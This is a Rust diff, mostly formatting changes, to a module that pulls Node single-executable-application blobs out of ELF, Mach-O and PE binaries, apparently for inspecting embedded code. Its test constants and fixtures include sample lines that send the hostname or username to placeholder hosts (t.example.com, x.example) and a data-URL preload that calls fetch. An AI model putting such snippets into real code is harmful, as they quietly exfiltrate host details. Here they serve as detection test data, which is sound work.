@@ -91,7 +91,7 @@ pub fn sea_modules(bytes: &[u8]) -> Option<Embedded<'_>> {
 /// The `NODE_SEA_BLOB` resource where the container says it is: an ELF note, the Mach-O
 /// section `__NODE_SEA_BLOB` of segment `NODE_SEA`, a PE resource named `NODE_SEA_BLOB`.
 fn postject_resource(bytes: &[u8]) -> Option<&[u8]> {
-    use object::read::elf::{FileHeader, ElfFile};
+    use object::read::elf::{ElfFile, FileHeader};
     use object::{Object, ObjectSection};
 
     fn elf_note<'a, Elf: FileHeader>(file: &ElfFile<'a, Elf>) -> Option<&'a [u8]> {
@@ -106,20 +106,34 @@ fn postject_resource(bytes: &[u8]) -> Option<&[u8]> {
             }
             None
         };
-        file.elf_program_headers().iter().find_map(|ph| in_notes(ph.notes(endian, data).ok().flatten())).or_else(|| {
-            file.elf_section_table().iter().find_map(|sh| in_notes(sh.notes(endian, data).ok().flatten()))
-        })
+        file.elf_program_headers()
+            .iter()
+            .find_map(|ph| in_notes(ph.notes(endian, data).ok().flatten()))
+            .or_else(|| {
+                file.elf_section_table()
+                    .iter()
+                    .find_map(|sh| in_notes(sh.notes(endian, data).ok().flatten()))
+            })
     }
 
-    fn pe_resource<'a>(dirs: object::read::pe::DataDirectories<'a>, sections: &object::read::pe::SectionTable<'a>, data: &'a [u8]) -> Option<&'a [u8]> {
+    fn pe_resource<'a>(
+        dirs: object::read::pe::DataDirectories<'a>,
+        sections: &object::read::pe::SectionTable<'a>,
+        data: &'a [u8],
+    ) -> Option<&'a [u8]> {
         use object::read::pe::ResourceNameOrId;
         let dir = dirs.resource_directory(data, sections).ok()??;
         let root = dir.root().ok()?;
         // Type RT_RCDATA, then the name, then the first language.
-        let rcdata = root.entries.iter().find(|e| matches!(e.name_or_id(), ResourceNameOrId::Id(10)))?;
+        let rcdata = root
+            .entries
+            .iter()
+            .find(|e| matches!(e.name_or_id(), ResourceNameOrId::Id(10)))?;
         let named = rcdata.data(dir).ok()?.table()?;
         let entry = named.entries.iter().find(|e| match e.name_or_id() {
-            ResourceNameOrId::Name(n) => n.to_string_lossy(dir).is_ok_and(|n| n.eq_ignore_ascii_case(SEA_RESOURCE)),
+            ResourceNameOrId::Name(n) => n
+                .to_string_lossy(dir)
+                .is_ok_and(|n| n.eq_ignore_ascii_case(SEA_RESOURCE)),
             ResourceNameOrId::Id(_) => false,
         })?;
         let languages = entry.data(dir).ok()?.table()?;
@@ -131,10 +145,20 @@ fn postject_resource(bytes: &[u8]) -> Option<&[u8]> {
     match object::File::parse(bytes).ok()? {
         object::File::Elf32(file) => elf_note(&file),
         object::File::Elf64(file) => elf_note(&file),
-        object::File::MachO32(file) => file.sections().find(|s| s.name() == Ok("__NODE_SEA_BLOB") && s.segment_name() == Ok(Some("NODE_SEA"))).and_then(|s| s.data().ok()),
-        object::File::MachO64(file) => file.sections().find(|s| s.name() == Ok("__NODE_SEA_BLOB") && s.segment_name() == Ok(Some("NODE_SEA"))).and_then(|s| s.data().ok()),
-        object::File::Pe32(file) => pe_resource(file.data_directories(), &file.section_table(), bytes),
-        object::File::Pe64(file) => pe_resource(file.data_directories(), &file.section_table(), bytes),
+        object::File::MachO32(file) => file
+            .sections()
+            .find(|s| s.name() == Ok("__NODE_SEA_BLOB") && s.segment_name() == Ok(Some("NODE_SEA")))
+            .and_then(|s| s.data().ok()),
+        object::File::MachO64(file) => file
+            .sections()
+            .find(|s| s.name() == Ok("__NODE_SEA_BLOB") && s.segment_name() == Ok(Some("NODE_SEA")))
+            .and_then(|s| s.data().ok()),
+        object::File::Pe32(file) => {
+            pe_resource(file.data_directories(), &file.section_table(), bytes)
+        }
+        object::File::Pe64(file) => {
+            pe_resource(file.data_directories(), &file.section_table(), bytes)
+        }
         _ => None,
     }
 }
@@ -165,7 +189,11 @@ fn read_blob(blob: &[u8], exact: bool, legacy: bool) -> Option<Embedded<'_>> {
     if !blob.starts_with(&SEA_MAGIC) {
         return None;
     }
-    if let Some(flags) = blob.get(4..8).map(|f| u32::from_le_bytes([f[0], f[1], f[2], f[3]])).filter(|f| *f <= SEA_MAX_FLAGS) {
+    if let Some(flags) = blob
+        .get(4..8)
+        .map(|f| u32::from_le_bytes([f[0], f[1], f[2], f[3]]))
+        .filter(|f| *f <= SEA_MAX_FLAGS)
+    {
         for header in [Header::ExtensionAndFormat, Header::Extension, Header::Plain] {
             if let Some(sea) = read_fields(blob, flags, header, exact) {
                 return Some(sea.into_embedded());
@@ -176,7 +204,11 @@ fn read_blob(blob: &[u8], exact: bool, legacy: bool) -> Option<Embedded<'_>> {
         }
         // Node 20 before the code path: the code as a string …
         let mut fields = Fields::new(blob, 8);
-        if let Some(text) = fields.with_u64_len().filter(|_| !exact || ends_here(blob, fields.at, flags)).and_then(sea_text) {
+        if let Some(text) = fields
+            .with_u64_len()
+            .filter(|_| !exact || ends_here(blob, fields.at, flags))
+            .and_then(sea_text)
+        {
             return Some(module("sea.js", text));
         }
         // … and Node 20.0: the code to the end of the resource.
@@ -188,13 +220,17 @@ fn read_blob(blob: &[u8], exact: bool, legacy: bool) -> Option<Embedded<'_>> {
     if !legacy {
         return None;
     }
-    sea_rest(blob, 4, exact).and_then(sea_text).map(|text| module("sea.js", text))
+    sea_rest(blob, 4, exact)
+        .and_then(sea_text)
+        .map(|text| module("sea.js", text))
 }
 
 /// The fields after `header`, each checked; `None` when one does not parse.
 fn read_fields(blob: &[u8], flags: u32, header: Header, exact: bool) -> Option<SeaBlob<'_>> {
     let mut fields = Fields::new(blob, 8);
-    if matches!(header, Header::ExtensionAndFormat | Header::Extension) && fields.u8()? > SEA_MAX_EXTENSION {
+    if matches!(header, Header::ExtensionAndFormat | Header::Extension)
+        && fields.u8()? > SEA_MAX_EXTENSION
+    {
         return None;
     }
     if matches!(header, Header::ExtensionAndFormat) && fields.u8()? > SEA_MAX_FORMAT {
@@ -210,7 +246,9 @@ fn read_fields(blob: &[u8], flags: u32, header: Header, exact: bool) -> Option<S
     let mut assets = Vec::new();
     if flags & SEA_INCLUDE_ASSETS != 0 {
         for _ in 0..fields.u64()? {
-            let key = fields.with_u64_len().filter(|k| k.len() <= SEA_MAX_KEY && std::str::from_utf8(k).is_ok())?;
+            let key = fields
+                .with_u64_len()
+                .filter(|k| k.len() <= SEA_MAX_KEY && std::str::from_utf8(k).is_ok())?;
             assets.push((key, fields.with_u64_len()?));
         }
     }
@@ -223,13 +261,23 @@ fn read_fields(blob: &[u8], flags: u32, header: Header, exact: bool) -> Option<S
     if exact && !ends_here(blob, fields.at, flags) {
         return None;
     }
-    Some(SeaBlob { code_path, main, snapshot: flags & SEA_USE_SNAPSHOT != 0, assets, exec_argv })
+    Some(SeaBlob {
+        code_path,
+        main,
+        snapshot: flags & SEA_USE_SNAPSHOT != 0,
+        assets,
+        exec_argv,
+    })
 }
 
 /// Whether fields that ended at `end` fill the resource: exactly, up to zero padding, or
 /// before fields of flags this reader does not know.
 fn ends_here(blob: &[u8], end: usize, flags: u32) -> bool {
-    end == blob.len() || flags & !SEA_KNOWN_FLAGS != 0 || blob.get(end..).is_some_and(|rest| rest.iter().all(|&b| b == 0))
+    end == blob.len()
+        || flags & !SEA_KNOWN_FLAGS != 0
+        || blob
+            .get(end..)
+            .is_some_and(|rest| rest.iter().all(|&b| b == 0))
 }
 
 impl<'a> SeaBlob<'a> {
@@ -238,12 +286,22 @@ impl<'a> SeaBlob<'a> {
         let name = path.rsplit(['/', '\\']).next().unwrap_or(&path).to_string();
         let mut out = Embedded::new("node-sea");
         if self.snapshot {
-            out.unreadable.push(Unreadable { name, bytes: self.main.len() as u64, why: "a V8 startup snapshot (useSnapshot): no source".into() });
+            out.unreadable.push(Unreadable {
+                name,
+                bytes: self.main.len() as u64,
+                why: "a V8 startup snapshot (useSnapshot): no source".into(),
+            });
         } else {
-            out.modules.push(EmbeddedModule { name, text: String::from_utf8_lossy(self.main) });
+            out.modules.push(EmbeddedModule {
+                name,
+                text: String::from_utf8_lossy(self.main),
+            });
         }
         for (key, bytes) in self.assets {
-            out.files.push(EmbeddedFile { name: format!("asset:{}", String::from_utf8_lossy(key)), bytes: Cow::Borrowed(bytes) });
+            out.files.push(EmbeddedFile {
+                name: format!("asset:{}", String::from_utf8_lossy(key)),
+                bytes: Cow::Borrowed(bytes),
+            });
         }
         out.unreadable.extend(preloads(&self.exec_argv));
         out
@@ -253,9 +311,16 @@ impl<'a> SeaBlob<'a> {
 /// Exec argv that make Node load code before the main script (`--require ./x.js`,
 /// `--import=data:…`, `--loader x`): that code is not in the blob, so it is not analysed.
 fn preloads(argv: &[&[u8]]) -> Vec<Unreadable> {
-    const LOADING: &[&str] = &["-r", "--require", "--import", "--loader", "--experimental-loader"];
+    const LOADING: &[&str] = &[
+        "-r",
+        "--require",
+        "--import",
+        "--loader",
+        "--experimental-loader",
+    ];
     let mut out = Vec::new();
-    let args: Vec<std::borrow::Cow<'_, str>> = argv.iter().map(|a| String::from_utf8_lossy(a)).collect();
+    let args: Vec<std::borrow::Cow<'_, str>> =
+        argv.iter().map(|a| String::from_utf8_lossy(a)).collect();
     let mut i = 0;
     while i < args.len() {
         let (flag, value) = match args[i].split_once('=') {
@@ -291,17 +356,23 @@ fn sea_rest(blob: &[u8], at: usize, exact: bool) -> Option<&[u8]> {
 /// Code of the layouts the structure does not vouch for: text, not blank, no control
 /// characters but whitespace.
 fn sea_text(code: &[u8]) -> Option<&str> {
-    std::str::from_utf8(code).ok().filter(|t| !t.trim().is_empty() && !t.chars().any(|c| c.is_control() && !c.is_whitespace()))
+    std::str::from_utf8(code).ok().filter(|t| {
+        !t.trim().is_empty() && !t.chars().any(|c| c.is_control() && !c.is_whitespace())
+    })
 }
 
 /// A main script's path as Node stores it: one line of text, not code.
 fn is_script_path(path: &[u8]) -> bool {
-    (1..=SEA_MAX_PATH).contains(&path.len()) && std::str::from_utf8(path).is_ok_and(|p| !p.chars().any(char::is_control))
+    (1..=SEA_MAX_PATH).contains(&path.len())
+        && std::str::from_utf8(path).is_ok_and(|p| !p.chars().any(char::is_control))
 }
 
 fn module<'a>(name: &str, text: &'a str) -> Embedded<'a> {
     let mut out = Embedded::new("node-sea");
-    out.modules.push(EmbeddedModule { name: name.to_string(), text: text.into() });
+    out.modules.push(EmbeddedModule {
+        name: name.to_string(),
+        text: text.into(),
+    });
     out
 }
 
@@ -337,40 +408,68 @@ mod tests {
     }
 
     fn fixture(name: &str) -> Vec<u8> {
-        let path = format!("{}/tests/fixtures/executables/{name}", env!("CARGO_MANIFEST_DIR"));
-        std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e} (scripts/gen-executable-fixtures.sh)"))
+        let path = format!(
+            "{}/tests/fixtures/executables/{name}",
+            env!("CARGO_MANIFEST_DIR")
+        );
+        std::fs::read(&path)
+            .unwrap_or_else(|e| panic!("{path}: {e} (scripts/gen-executable-fixtures.sh)"))
     }
 
     fn files(e: &Embedded<'_>) -> Vec<(String, usize)> {
-        let mut files: Vec<(String, usize)> = e.files.iter().map(|f| (f.name.clone(), f.bytes.len())).collect();
+        let mut files: Vec<(String, usize)> = e
+            .files
+            .iter()
+            .map(|f| (f.name.clone(), f.bytes.len()))
+            .collect();
         files.sort();
         files
     }
 
-    const SEA_CODE: &[u8] = b"require('https').get('https://t.example.com/?h=' + require('os').hostname())";
+    const SEA_CODE: &[u8] =
+        b"require('https').get('https://t.example.com/?h=' + require('os').hostname())";
 
     #[test]
     fn node_sea_blob_yields_its_main_script_in_every_layout() {
         // Node 21+: path, code, then a code cache.
-        let exe = sea_executable(&sea_blob(1 | 4, &[b"/home/dev/app/dist/main.js", SEA_CODE, b"\x01\x02cache"]));
+        let exe = sea_executable(&sea_blob(
+            1 | 4,
+            &[b"/home/dev/app/dist/main.js", SEA_CODE, b"\x01\x02cache"],
+        ));
         let e = embedded_modules(&exe).expect("blob found");
         assert_eq!((e.format, e.modules.len()), ("node-sea", 1));
-        assert_eq!((e.modules[0].name.as_str(), e.modules[0].text.as_bytes()), ("main.js", SEA_CODE));
+        assert_eq!(
+            (e.modules[0].name.as_str(), e.modules[0].text.as_bytes()),
+            ("main.js", SEA_CODE)
+        );
         // Node 20: flags and the code as one string.
         let exe = sea_executable(&sea_blob(0, &[SEA_CODE]));
         let e = sea_modules(&exe).expect("blob found");
-        assert_eq!((e.modules[0].name.as_str(), e.modules[0].text.as_bytes()), ("sea.js", SEA_CODE));
+        assert_eq!(
+            (e.modules[0].name.as_str(), e.modules[0].text.as_bytes()),
+            ("sea.js", SEA_CODE)
+        );
         // Node 20.0: flags, then the code to the end of the resource.
         let mut blob = SEA_MAGIC.to_vec();
         blob.extend_from_slice(&0u32.to_le_bytes());
         blob.extend_from_slice(SEA_CODE);
         let exe = sea_executable(&blob);
-        assert_eq!(sea_modules(&exe).expect("blob found").modules[0].text.as_bytes(), SEA_CODE);
+        assert_eq!(
+            sea_modules(&exe).expect("blob found").modules[0]
+                .text
+                .as_bytes(),
+            SEA_CODE
+        );
         // Node 19.7: the code right after the magic.
         let mut blob = SEA_MAGIC.to_vec();
         blob.extend_from_slice(SEA_CODE);
         let exe = sea_executable(&blob);
-        assert_eq!(sea_modules(&exe).expect("blob found").modules[0].text.as_bytes(), SEA_CODE);
+        assert_eq!(
+            sea_modules(&exe).expect("blob found").modules[0]
+                .text
+                .as_bytes(),
+            SEA_CODE
+        );
     }
 
     #[test]
@@ -379,8 +478,14 @@ mod tests {
         let mut unflipped = sea_executable(&blob);
         let at = memchr::memmem::find(&unflipped, SEA_FUSE).unwrap();
         unflipped[at + SEA_FUSE.len() - 1] = b'0';
-        assert!(sea_modules(&unflipped).is_none(), "a plain node binary holds no application");
-        let snapshot = sea_executable(&sea_blob(SEA_USE_SNAPSHOT, &[b"main.js", b"\x00\x01v8 snapshot"]));
+        assert!(
+            sea_modules(&unflipped).is_none(),
+            "a plain node binary holds no application"
+        );
+        let snapshot = sea_executable(&sea_blob(
+            SEA_USE_SNAPSHOT,
+            &[b"main.js", b"\x00\x01v8 snapshot"],
+        ));
         let e = sea_modules(&snapshot).expect("blob found");
         assert_eq!((e.modules.len(), e.unreadable.len()), (0, 1));
         // A length past the end, binary bytes: no panic, no text.
@@ -411,8 +516,14 @@ mod tests {
         }
         let exe = sea_executable(&blob);
         let e = sea_modules(&exe).expect("blob found");
-        assert_eq!((e.modules[0].name.as_str(), e.modules[0].text.as_bytes()), ("sea-loader.js", SEA_CODE));
-        assert_eq!((e.files[0].name.as_str(), &e.files[0].bytes[..]), ("asset:copilot.tgz", &b"\x1f\x8b\x08\0tarball"[..]));
+        assert_eq!(
+            (e.modules[0].name.as_str(), e.modules[0].text.as_bytes()),
+            ("sea-loader.js", SEA_CODE)
+        );
+        assert_eq!(
+            (e.files[0].name.as_str(), &e.files[0].bytes[..]),
+            ("asset:copilot.tgz", &b"\x1f\x8b\x08\0tarball"[..])
+        );
         // An extension byte out of range is not that layout, and nothing else parses.
         let mut bad = blob.clone();
         bad[8] = 3;
@@ -422,28 +533,56 @@ mod tests {
     #[test]
     fn node20_fixture_yields_main_and_assets_and_drops_the_code_cache() {
         let exe = fixture("sea-node20.20.2-assets-codecache.elf");
-        assert!(postject_resource(&exe).is_some(), "found through the ELF note");
+        assert!(
+            postject_resource(&exe).is_some(),
+            "found through the ELF note"
+        );
         let e = sea_modules(&exe).expect("blob found");
         assert_eq!(e.format, "node-sea");
         assert_eq!(e.modules.len(), 1);
         assert_eq!(e.modules[0].name, "app.js");
-        assert!(e.modules[0].text.starts_with("// telltale fixture: a Node single executable application"));
+        assert!(e.modules[0]
+            .text
+            .starts_with("// telltale fixture: a Node single executable application"));
         assert!(e.modules[0].text.contains("os.userInfo().username"));
-        assert_eq!(files(&e), vec![("asset:config.json".to_string(), 45), ("asset:note.txt".to_string(), 13)]);
+        assert_eq!(
+            files(&e),
+            vec![
+                ("asset:config.json".to_string(), 45),
+                ("asset:note.txt".to_string(), 13)
+            ]
+        );
         assert!(e.unreadable.is_empty());
-        let config = e.files.iter().find(|f| f.name == "asset:config.json").unwrap();
-        assert_eq!(&config.bytes[..], b"{\"endpoint\":\"https://t.example.com/collect\"}\n");
+        let config = e
+            .files
+            .iter()
+            .find(|f| f.name == "asset:config.json")
+            .unwrap();
+        assert_eq!(
+            &config.bytes[..],
+            b"{\"endpoint\":\"https://t.example.com/collect\"}\n"
+        );
     }
 
     #[test]
     fn node24_fixture_with_exec_argv_and_code_cache_yields_main_and_assets() {
         let exe = fixture("sea-node24.22.3-assets-execargv-codecache.elf");
         let blob = postject_resource(&exe).expect("the ELF note");
-        assert_eq!((blob[4], blob[8]), (0x1d, 2), "flags: warning, code cache, assets, exec argv; extension cli");
+        assert_eq!(
+            (blob[4], blob[8]),
+            (0x1d, 2),
+            "flags: warning, code cache, assets, exec argv; extension cli"
+        );
         let e = sea_modules(&exe).expect("blob found");
         assert_eq!(e.modules[0].name, "app.js");
         assert!(e.modules[0].text.contains("config.endpoint + '?host='"));
-        assert_eq!(files(&e), vec![("asset:config.json".to_string(), 45), ("asset:note.txt".to_string(), 13)]);
+        assert_eq!(
+            files(&e),
+            vec![
+                ("asset:config.json".to_string(), 45),
+                ("asset:note.txt".to_string(), 13)
+            ]
+        );
         assert!(e.unreadable.is_empty());
     }
 
@@ -451,11 +590,23 @@ mod tests {
     fn node26_fixture_with_an_esm_main_and_the_format_byte() {
         let exe = fixture("sea-node26.10.0-esm-assets-execargv.elf");
         let blob = postject_resource(&exe).expect("the ELF note");
-        assert_eq!((blob[4], blob[8], blob[9]), (0x19, 0, 1), "extension none, format module");
+        assert_eq!(
+            (blob[4], blob[8], blob[9]),
+            (0x19, 0, 1),
+            "extension none, format module"
+        );
         let e = sea_modules(&exe).expect("blob found");
         assert_eq!(e.modules[0].name, "app.mjs");
-        assert!(e.modules[0].text.contains("import { getAsset, isSea } from 'node:sea';"));
-        assert_eq!(files(&e), vec![("asset:config.json".to_string(), 45), ("asset:note.txt".to_string(), 13)]);
+        assert!(e.modules[0]
+            .text
+            .contains("import { getAsset, isSea } from 'node:sea';"));
+        assert_eq!(
+            files(&e),
+            vec![
+                ("asset:config.json".to_string(), 45),
+                ("asset:note.txt".to_string(), 13)
+            ]
+        );
     }
 
     #[test]
@@ -464,7 +615,10 @@ mod tests {
         let e = sea_modules(&exe).expect("blob found");
         assert!(e.modules.is_empty());
         assert_eq!(e.unreadable.len(), 1);
-        assert_eq!((e.unreadable[0].name.as_str(), e.unreadable[0].bytes), ("snapshot.js", 64 << 10));
+        assert_eq!(
+            (e.unreadable[0].name.as_str(), e.unreadable[0].bytes),
+            ("snapshot.js", 64 << 10)
+        );
         assert!(e.unreadable[0].why.contains("snapshot"));
         assert_eq!(files(&e), vec![("asset:note.txt".to_string(), 13)]);
     }
@@ -472,7 +626,12 @@ mod tests {
     /// Without the container (the ELF header broken), the magic is found by scanning.
     #[test]
     fn fixtures_read_the_same_by_scanning_for_the_magic() {
-        for name in ["sea-node20.20.2-assets-codecache.elf", "sea-node24.22.3-assets-execargv-codecache.elf", "sea-node26.10.0-esm-assets-execargv.elf", "sea-node22.23.5-snapshot-cut.elf"] {
+        for name in [
+            "sea-node20.20.2-assets-codecache.elf",
+            "sea-node24.22.3-assets-execargv-codecache.elf",
+            "sea-node26.10.0-esm-assets-execargv.elf",
+            "sea-node22.23.5-snapshot-cut.elf",
+        ] {
             let exe = fixture(name);
             let mut headless = exe.clone();
             headless[..4].copy_from_slice(b"\0ELF");
@@ -483,7 +642,11 @@ mod tests {
 
     #[test]
     fn every_cut_and_every_corrupt_length_of_the_fixtures_is_safe() {
-        for name in ["sea-node20.20.2-assets-codecache.elf", "sea-node24.22.3-assets-execargv-codecache.elf", "sea-node26.10.0-esm-assets-execargv.elf"] {
+        for name in [
+            "sea-node20.20.2-assets-codecache.elf",
+            "sea-node24.22.3-assets-execargv-codecache.elf",
+            "sea-node26.10.0-esm-assets-execargv.elf",
+        ] {
             let exe = fixture(name);
             for cut in 0..exe.len() {
                 if let Some(e) = sea_modules(&exe[..cut]) {
@@ -493,12 +656,16 @@ mod tests {
             // Each u64 length in the blob set to huge values: nothing is read past the input,
             // nothing is allocated from the length (the test would abort otherwise).
             let blob_at = memchr::memmem::find(&exe, &SEA_MAGIC).unwrap();
-            for at in (blob_at + 8..exe.len().saturating_sub(8)).step_by(1).take(2048) {
+            for at in (blob_at + 8..exe.len().saturating_sub(8))
+                .step_by(1)
+                .take(2048)
+            {
                 for huge in [u64::MAX, u64::MAX / 2, 1 << 40, exe.len() as u64] {
                     let mut bad = exe.clone();
                     bad[at..at + 8].copy_from_slice(&huge.to_le_bytes());
                     if let Some(e) = sea_modules(&bad) {
-                        let total: usize = e.files.iter().map(|f| f.bytes.len()).sum::<usize>() + e.modules.iter().map(|m| m.text.len()).sum::<usize>();
+                        let total: usize = e.files.iter().map(|f| f.bytes.len()).sum::<usize>()
+                            + e.modules.iter().map(|m| m.text.len()).sum::<usize>();
                         assert!(total <= bad.len() * 3, "{name} @{at}");
                     }
                 }
@@ -508,13 +675,34 @@ mod tests {
 
     #[test]
     fn exec_argv_that_preload_code_are_unreadable() {
-        let argv: Vec<&[u8]> = vec![b"--no-warnings", b"--require", b"./preload.js", b"--import=data:text/javascript,fetch('https://x.example')", b"--expose-gc", b"-r"];
+        let argv: Vec<&[u8]> = vec![
+            b"--no-warnings",
+            b"--require",
+            b"./preload.js",
+            b"--import=data:text/javascript,fetch('https://x.example')",
+            b"--expose-gc",
+            b"-r",
+        ];
         let u = preloads(&argv);
         let names: Vec<&str> = u.iter().map(|u| u.name.as_str()).collect();
-        assert_eq!(names, ["exec argv --require ./preload.js", "exec argv --import data:text/javascript,fetch('https://x.example')", "exec argv -r "]);
+        assert_eq!(
+            names,
+            [
+                "exec argv --require ./preload.js",
+                "exec argv --import data:text/javascript,fetch('https://x.example')",
+                "exec argv -r "
+            ]
+        );
         assert!(u[0].why.contains("not in the executable"));
         // copilot's: none loads code.
-        let copilot: Vec<&[u8]> = vec![b"--no-warnings", b"--report-on-fatalerror", b"--optimize-for-size", b"--expose-gc", b"--no-concurrent-recompilation", b"--no-concurrent-sparkplug"];
+        let copilot: Vec<&[u8]> = vec![
+            b"--no-warnings",
+            b"--report-on-fatalerror",
+            b"--optimize-for-size",
+            b"--expose-gc",
+            b"--no-concurrent-recompilation",
+            b"--no-concurrent-sparkplug",
+        ];
         assert!(preloads(&copilot).is_empty());
     }
 
@@ -639,9 +827,15 @@ mod tests {
         pe.resize(0x200, 0);
         pe.extend_from_slice(&rsrc);
         pe.extend_from_slice(SEA_FUSE);
-        assert!(matches!(object::File::parse(&pe[..]), Ok(object::File::Pe64(_))));
+        assert!(matches!(
+            object::File::parse(&pe[..]),
+            Ok(object::File::Pe64(_))
+        ));
         assert_eq!(postject_resource(&pe), Some(&blob[..]));
         let e = sea_modules(&pe).expect("blob found");
-        assert_eq!((e.modules[0].name.as_str(), e.modules[0].text.as_bytes()), ("main.js", SEA_CODE));
+        assert_eq!(
+            (e.modules[0].name.as_str(), e.modules[0].text.as_bytes()),
+            ("main.js", SEA_CODE)
+        );
     }
 }
